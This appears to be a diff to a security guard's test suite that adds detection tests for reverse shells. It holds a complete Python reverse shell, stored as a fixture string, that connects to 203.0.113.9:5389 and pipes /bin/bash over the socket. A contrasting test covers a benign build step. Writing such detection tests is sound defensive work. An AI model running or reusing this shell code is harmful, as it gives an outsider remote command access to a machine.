@@ -888,3 +888,36 @@ def test_token_stores_and_private_files_sent_out_are_exfiltration(guard: Guard, 
     decision = decide(guard, code)
     assert python_findings(decision, "net.exfiltrate")
     assert decision.action == "block"
+
+
+PIPED_SHELL = """import socket, subprocess, threading
+
+def pump_in(s, p):
+    while True:
+        p.stdin.write(s.recv(1024))
+        p.stdin.flush()
+
+def pump_out(s, p):
+    while True:
+        s.send(p.stdout.read(1))
+
+s = socket.socket()
+s.connect(("203.0.113.9", 5389))
+p = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+threading.Thread(target=pump_in, args=[s, p], daemon=True).start()
+threading.Thread(target=pump_out, args=[s, p], daemon=True).start()
+"""
+
+
+def test_a_shell_whose_pipes_are_pumped_through_a_socket_is_a_reverse_shell(guard: Guard) -> None:
+    decision = decide(guard, PIPED_SHELL)
+    assert one(decision, "proc.reverse_shell").target == "203.0.113.9:5389"
+    assert decision.action == "block"
+
+
+def test_a_build_that_pipes_a_script_into_bash_is_not_a_remote_shell(guard: Guard) -> None:
+    code = (
+        "import subprocess, requests\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
+        "out, _ = p.communicate(b'make -C build all')\nrequests.post('https://ci.example.com/log', data=out)\n"
+    )
+    assert not found(decide(guard, code), "proc.reverse_shell")
